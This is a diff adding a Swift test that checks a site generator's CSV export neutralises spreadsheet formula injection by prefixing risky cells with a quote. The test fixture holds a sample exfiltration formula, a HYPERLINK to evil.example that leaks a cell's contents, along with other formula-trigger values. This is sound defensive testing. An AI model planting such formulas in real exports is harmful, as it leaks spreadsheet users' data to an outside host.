@@ -198,6 +198,43 @@ struct RiskOpenDataTests {
         #expect(valid.status == 0, "\(valid.output)")
     }
 
+    @Test("CSV text cells that a spreadsheet would run as a formula start with a quote; numbers and JSON are as they are")
+    func formulasDefused() throws {
+        let site = try TemporarySite()
+        defer { site.remove() }
+        try site.write("Content/deep-dives/2024-f.md", """
+        ---
+        type: deep-dive
+        title: Formulas
+        date: 2024-03-22
+        risks:
+          - id: "R1"
+            title: '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'
+            owner: "+44 20 7974 4444"
+            category: "-cmd"
+            statement: "@SUM(A1)"
+            current: {likelihood: 1, impact: 1}
+            target: {likelihood: 2, impact: 5}
+            actions:
+              - action: "\\tTabbed"
+                impact: "\\rReturned"
+                status: Ongoing
+        ---
+        """)
+        _ = try site.build()
+        let risk = try #require(try NamedCSV(string: try site.read("Site/risks.csv"), delimiter: .comma).rows.first)
+        #expect(risk["risk_title"] == "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")")
+        #expect(risk["risk_title"]?.hasPrefix("'=") == true)
+        #expect([risk["owner"], risk["category"], risk["statement"]] == ["'+44 20 7974 4444", "'-cmd", "'@SUM(A1)"])
+        #expect(risk["gap_to_target"] == "-9")
+        let action = try #require(try NamedCSV(string: try site.read("Site/actions.csv"), delimiter: .comma).rows.first)
+        #expect([action["action"], action["expected_impact"]] == ["'\tTabbed", "'\rReturned"])
+        let json = try #require(try JSONSerialization.jsonObject(with: Data(try site.read("Site/risks.json").utf8)) as? [String: Any])
+        let object = try #require((json["risks"] as? [[String: Any]])?.first)
+        #expect(object["risk_title"] as? String == "=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Click\")")
+        #expect(object["gap_to_target"] as? Int == -9)
+    }
+
     @Test("Two builds of the same content give the same bytes: sorted, no timestamps")
     func deterministic() throws {
         let site = try TemporarySite()
